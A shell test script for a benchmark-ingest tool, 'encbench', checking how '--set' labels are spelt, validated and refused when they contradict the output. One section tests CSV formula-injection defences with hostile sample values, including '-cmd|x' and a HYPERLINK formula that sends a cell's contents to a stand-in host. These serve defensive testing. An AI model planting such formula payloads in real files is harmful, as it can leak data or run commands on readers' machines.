# set_values.sh - --set values are spelt as any input's labels, checked,
# and never silently change what an output says itself; a file named
# beside the folder it is in is read once, in either order.
. tests/e2e/lib.sh
DD=samples/zfs-series/24.04/none/dd-write-r1.txt	# 2147483648 bytes in 1.33963 s
FIO=samples/zfs-series/24.04/none/fio-seq-read-r1.json
USAGE_LINE="usage: encbench ingest [--format NAME|auto] [--set COLUMN=VALUE]... [--map MAP.json] [--unit UNIT]"

# B7: canonical spellings, as a sheet's or a run folder's.
eb ingest -q --set "mode=None" --set op=write --set "release=24.04 " --set "config= No AES-NI" "$DD"
expect_rc "--set mode=None, a release with a blank and a config in words are read" 0
labels=$(sed -n 2p "$TMP/out" | cut -d, -f1-4)
[ "$labels" = "24.04,framework-i5-1135g7,no-aesni,none" ] &&
	pass "they are spelt 24.04, no-aesni (the runner's spelling) and none, as any other input spells them" ||
	fail "they are spelt 24.04, no-aesni (the runner's spelling) and none, as any other input spells them (got $labels)"
eb ingest -q --set mode=AES-256-GCM --set op=write "$DD"
[ "$(sed -n 2p "$TMP/out" | cut -d, -f4)" = aes-256-gcm ] &&
	pass "--set mode=AES-256-GCM is aes-256-gcm" || fail "--set mode=AES-256-GCM is aes-256-gcm"
eb ingest --set op=bogus "$DD"
expect_rc "an unknown op is a usage error" 64
expect_err_line "naming the ops" \
	"encbench: error: --set op: unknown op 'bogus' (ops: read, write, rewrite, mixed, trim, seek, create, stat, delete, rw, randrw, readwrite)"
eb ingest --set tool=iozone "$DD"
expect_rc "an unknown tool is a usage error" 64
expect_err_line "naming the tools" \
	"encbench: error: --set tool: unknown tool 'iozone' (tools: dd, fio, bonnie, sheet)"
eb ingest --set op=write --set op=read "$DD"
expect_rc "a column set twice is a usage error" 64
expect_err_line "naming both values" \
	"encbench: error: --set op given twice ('write' and 'read'): a column takes one value"
eb ingest --set "mode=" "$FIO"
expect_rc "an empty --set mode on a run folder's none is read" 0
expect_err_line "with a warning that it clears the mode none" \
	"encbench: warning: --set mode= replaces the mode 'none' that $FIO:28 gives (and any other record's own mode)"

# B13: what the output says itself.
eb ingest --set tool=fio --set op=write "$DD"
expect_rc "--set tool=fio on dd output is a usage error" 64
expect_err_line "naming the record and both tools" \
	"encbench: error: --set tool=fio contradicts $DD:3, whose tool is 'dd': --set fills in what an output does not say, and cannot change what it measured (leave it out)"
eb ingest --set op=write "$FIO"
expect_rc "--set op=write on a fio read job is a usage error" 64
expect_err_line "naming the record and both ops" \
	"encbench: error: --set op=write contradicts $FIO:28, whose op is 'read': --set fills in what an output does not say, and cannot change what it measured (leave it out)"
eb ingest -q --set op=read "$FIO"
expect_rc "--set of the value the output gives is accepted" 0
eb ingest --set mode=aes-256-gcm "$FIO"
expect_rc "--set mode on a run folder's none is read" 0
expect_err_line "with a warning naming both modes" \
	"encbench: warning: --set mode=aes-256-gcm replaces the mode 'none' that $FIO:28 gives (and any other record's own mode)"
[ "$(sed -n 2p "$TMP/out" | cut -d, -f4)" = aes-256-gcm ] &&
	pass "and the records get the mode --set gives" || fail "and the records get the mode --set gives"

# B8: ingest FILE DIR and ingest DIR FILE read the file once, with a note.
mkdir -p "$TMP/b8"
cp -r samples/zfs-series/24.04 "$TMP/b8/run"
E=$(cd "$(dirname "$ENCBENCH")" && pwd)/$(basename "$ENCBENCH")
(cd "$TMP/b8" && "$E" ingest -o a.csv run/none/dd-write-r1.txt run 2> a.err); a=$?
(cd "$TMP/b8" && "$E" ingest -o b.csv run run/none/dd-write-r1.txt 2> b.err); b=$?
rc=$a
[ "$a" -eq 0 ] && [ "$b" -eq 0 ] && pass "ingest FILE DIR and ingest DIR FILE both exit 0" ||
	fail "ingest FILE DIR and ingest DIR FILE both exit 0 (exits $a and $b)"
[ "$(cat "$TMP/b8/a.err")" = "run/none/dd-write-r1.txt: note: named again (in run): read once" ] &&
	pass "FILE first gets a note that it is read once" ||
	fail "FILE first gets a note that it is read once (got: $(cat "$TMP/b8/a.err"))"
[ "$(cat "$TMP/b8/b.err")" = "run/none/dd-write-r1.txt: note: named before (as run): read once" ] &&
	pass "DIR first gets its note" || fail "DIR first gets its note"
if [ "$(sort "$TMP/b8/a.csv" | cksum)" = "$(sort "$TMP/b8/b.csv" | cksum)" ] &&
	[ "$(wc -l < "$TMP/b8/a.csv")" -eq 595 ]; then
	pass "both read the same 594 records"
else fail "both read the same 594 records"; fi

# ---- --unit: a unit encbench knows, and a word when no input takes it

dd1=samples/zfs-series/24.04/none/dd-write-r1.txt
eb ingest --unit bogus --set op=write "$dd1"
expect_rc "--unit bogus is a usage error whatever the inputs" 64
expect_err_line "it names the units it knows" "encbench: error: --unit 'bogus' is not a unit encbench knows (B/s, kB/s, MB/s, GB/s, KiB/s, MiB/s, GiB/s, IOPS, ops/s, ns, us, ms, %)"
eb ingest --set op=write "$dd1"
cp "$TMP/out" "$TMP/plain.csv"
eb ingest --unit GB/s --set op=write "$dd1"
expect_rc "--unit GB/s on dd output exits 0" 0
expect_err_line "it warns that --unit changed nothing" "encbench: warning: --unit GB/s changed nothing: only the spreadsheet reader takes it, and no input was a spreadsheet"
cmp -s "$TMP/out" "$TMP/plain.csv" && pass "the records are those read without --unit" ||
	fail "the records are those read without --unit"
eb ingest --unit MB/s tests/data/sheet/two-release-de.csv
expect_rc "a spreadsheet read with --unit exits 0" 0
grep -q "changed nothing" "$TMP/err" && fail "a spreadsheet's --unit is not warned of" ||
	pass "a spreadsheet's --unit is not warned of"

# ---- D7: release and mode spelt as a sheet spells them

cp "$DD" "$TMP/dd.txt"	# outside any run folder: no label of its own
eb ingest --set op=write --set "release=Ubuntu 24.04" "$TMP/dd.txt"
[ "$(sed -n 2p "$TMP/out" | cut -d, -f1)" = 24.04 ] &&
	pass "--set release='Ubuntu 24.04' is 24.04, as a sheet's group row" ||
	fail "--set release='Ubuntu 24.04' is 24.04, as a sheet's group row"
expect_err_line "with a note" \
	"encbench: note: --set release='Ubuntu 24.04' is read as release 24.04, as every input spells it"
eb ingest -q --set op=write --set "release=24.04 LTS" "$TMP/dd.txt"
[ "$(sed -n 2p "$TMP/out" | cut -d, -f1)" = 24.04 ] &&
	pass "--set release='24.04 LTS' is 24.04" || fail "--set release='24.04 LTS' is 24.04"
eb ingest --set op=write --set "mode=AES-256-GCM (no AES-NI)" "$TMP/dd.txt"
[ "$(sed -n 2p "$TMP/out" | cut -d, -f3,4)" = no-aesni,aes-256-gcm ] &&
	pass "--set mode='AES-256-GCM (no AES-NI)' is aes-256-gcm in config no-aesni" ||
	fail "--set mode='AES-256-GCM (no AES-NI)' is aes-256-gcm in config no-aesni"
expect_err_line "with a note" \
	"encbench: note: --set mode='AES-256-GCM (no AES-NI)' is read as mode aes-256-gcm in config no-aesni, as a sheet's mode cell is"
eb ingest -q --set op=write --set "mode=AES-256-GCM (no AES-NI)" --set "config=No AES-NI" "$TMP/dd.txt"
[ "$rc" -eq 0 ] && [ "$(sed -n 2p "$TMP/out" | cut -d, -f3,4)" = no-aesni,aes-256-gcm ] &&
	pass "and with a --set config that agrees" || fail "and with a --set config that agrees"
eb ingest --set op=write --set "mode=AES-256-GCM (no AES-NI)" --set "config=2 cores" "$TMP/dd.txt"
expect_rc "a --set config that contradicts the mode's is a usage error" 64
expect_err_line "naming both" \
	"encbench: error: --set mode='AES-256-GCM (no AES-NI)' is the mode aes-256-gcm in the configuration no-aesni, but --set config gives '2-cores': give the configuration once"
eb ingest --set op=write --set "mode=AES-256-GCM (compression on)" "$TMP/dd.txt"
expect_rc "a mode with words that are neither mode nor config is a usage error" 64
expect_err_line "naming the words" \
	"encbench: error: --set mode: 'AES-256-GCM (compression on)' is the mode aes-256-gcm, but also says 'compression', which is no mode or configuration encbench reads; give the mode alone (and a configuration with --set config)"
eb ingest --set op=write --set "mode=Serpent XTS" "$TMP/dd.txt"
[ "$rc" -eq 0 ] && [ "$(sed -n 2p "$TMP/out" | cut -d, -f4)" = serpent-xts ] &&
	pass "a mode encbench does not know is kept as written" ||
	fail "a mode encbench does not know is kept as written"
expect_err_line "with a note, as a sheet's" \
	"encbench: note: --set mode=serpent-xts: a mode encbench does not know, kept as written"

# ---- D13: no label a spreadsheet would run as a formula

for v in 'host==1+2' 'host=@SUM(A1)' 'host=-cmd' 'workload=+x' 'release= =A1'; do
	eb ingest -o "$TMP/f.csv" --set op=write --set "$v" "$TMP/dd.txt"
	shown=$(printf '%s' "${v#*=}" | sed 's/^ *//' | tr 'A-Z' 'a-z')
	[ "${v%%=*}" = workload ] && shown=${v#*=}
	expect_rc "--set $v is a usage error" 64
	expect_err_line "naming the label and the rule" \
		"encbench: error: --set ${v%%=*}: '$shown' begins with '$(printf '%.1s' "$shown")', which a spreadsheet opening results.csv would run as a formula: no label may begin with =, +, - or @"
	[ -e "$TMP/f.csv" ] && fail "and writes nothing" || pass "and writes nothing"
done
printf 'Mode,DD Write (MB/s)\nNone,1000\n"=HYPERLINK(""http://x.example/""&A1,""ok"")",800\n' > "$TMP/formula.csv"
eb ingest -o "$TMP/f.csv" "$TMP/formula.csv"
expect_rc "a sheet's mode cell that is a formula is a data error" 65
expect_err_line "located at the row's cell" \
	"$TMP/formula.csv:3:2: error: mode '=hyperlink(\"http://x.example/\"&a1,\"ok\")' begins with '=', which a spreadsheet opening results.csv would run as a formula: no label may begin with =, +, - or @ (give another with --set mode=NAME)"
[ -e "$TMP/f.csv" ] && fail "and writes nothing" || pass "and writes nothing"
sed 2d "$TMP/formula.csv" > "$TMP/formula1.csv"
eb ingest -q -o "$TMP/f.csv" --set mode=aes-256-gcm "$TMP/formula1.csv"
expect_rc "--set mode gives it a name that can be written" 0
sed 's/"jobname": "[^"]*"/"jobname": "-cmd|x"/' "$FIO" > "$TMP/fio.json"
eb ingest --set mode=none "$TMP/fio.json"
expect_rc "a fio job name that a spreadsheet would run is a data error" 65
expect_err_line "at the job's line" \
	"$TMP/fio.json:28: error: job '-cmd|x' begins with '-', which a spreadsheet opening results.csv would run as a formula: no label may begin with =, +, - or @ (rename it in the input)"
printf '%s\n' "release,host,config,mode,tool,job,workload,op,block_size,metric,unit,rep,value,source" \
	"24.04,h,,@x,dd,dd,,write,,bw,B/s,1,100,a.txt:3" "24.04,h,,none,dd,dd,,write,,bw,B/s,1,90,=cmd" \
	> "$TMP/formula-results.csv"
eb ingest "$TMP/formula-results.csv"
expect_rc "a results.csv holding such a label and source is a data error" 65
expect_err_line "the label, at the line of the record it came from" \
	"a.txt:3: error: mode '@x' begins with '@', which a spreadsheet opening results.csv would run as a formula: no label may begin with =, +, - or @ (give another with --set mode=NAME)"
expect_err_line "the source, at the results.csv" \
	"$TMP/formula-results.csv: error: source '=cmd' begins with '=', which a spreadsheet opening results.csv would run as a formula: no source may begin with =, +, - or @ (a path typed so reads as ./PATH)"
# Every other label, commas, quotes and '=' inside included, reads back.
eb ingest -o "$TMP/rt.csv" --set op=write --set 'host=Büro "A", x=2' --set workload=Sequential \
	--set "release=Ubuntu 24.04" --set "mode=AES-256-GCM (no AES-NI)" "$TMP/dd.txt"
eb ingest -o "$TMP/rt2.csv" "$TMP/rt.csv"
[ "$(sed -n 2p "$TMP/rt.csv")" = "24.04,\"büro-\"\"a\"\",-x=2\",no-aesni,aes-256-gcm,dd,dd,seq,write,1048576,bw,B/s,1,1603042368.4151592,$TMP/dd.txt:3" ] &&
	pass "labels with commas, quotes and '=' are written quoted" ||
	fail "labels with commas, quotes and '=' are written quoted (got $(sed -n 2p "$TMP/rt.csv"))"
cmp -s "$TMP/rt.csv" "$TMP/rt2.csv" && pass "and results.csv read back gives the same records" ||
	fail "and results.csv read back gives the same records"

# A sheet that names no tool gives tool and job "sheet": --set fills that
# placeholder as it fills an empty column (audit 13 K2); a tool a sheet's
# header names is still its own.
printf 'Mode,Write (MB/s)\nnone,300\naes-256-gcm,250\n' > "$TMP/notool.csv"
eb ingest --set tool=fio --set job=seqwrite "$TMP/notool.csv"
expect_rc "--set tool and job over a sheet naming no tool" 0
[ "$(grep -c ',none,fio,seqwrite,,write,,bw,B/s,1,300000000,' "$TMP/out")" -eq 1 ] &&
	[ "$(grep -c ',sheet,' "$TMP/out")" -eq 0 ] &&
	pass "--set fills a sheet's placeholder tool and job" || fail "--set fills a sheet's placeholder tool and job"
printf 'Mode,DD Write (MB/s)\nnone,300\naes-256-gcm,250\n' > "$TMP/ddtool.csv"
eb ingest --set tool=fio "$TMP/ddtool.csv"
expect_rc "--set tool over a sheet's header naming dd is refused" 64

# A workload is spelt as every reader spells it, or the records would pair
# with no other input's: Sequential is seq, random rand; any other word is
# a usage error.
eb ingest --set op=write --set workload=Random "$TMP/dd.txt"
[ "$(grep -c ',dd,dd,rand,write,' "$TMP/out")" -eq 1 ] && pass "--set workload=Random is rand" ||
	fail "--set workload=Random is rand"
eb ingest --set op=write --set workload=bursty "$TMP/dd.txt"
expect_rc "--set workload of no known kind is refused" 64
grep -qxF "encbench: error: --set workload: unknown workload 'bursty' (workloads: seq, rand, mixed)" "$TMP/err" &&
	pass "the workloads are named" || fail "the workloads are named"
